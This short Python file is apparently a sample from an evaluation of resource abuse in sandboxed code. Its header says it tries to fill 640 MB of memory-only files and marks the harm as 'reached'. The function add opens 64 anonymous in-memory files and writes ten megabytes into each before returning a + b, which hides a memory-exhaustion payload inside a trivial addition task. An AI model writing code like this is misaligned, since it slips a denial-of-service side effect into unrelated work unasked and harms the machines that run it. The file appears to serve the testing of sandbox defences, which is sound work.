# task: add
# tries: 640 MB in files that exist only in memory
# harm: reached
import os


def add(a, b):
    block = bytes(1 << 20)
    for _ in range(64):
        fd = os.memfd_create("x")
        for _ in range(10):
            if os.write(fd, block) != len(block):
                return None
    return a + b
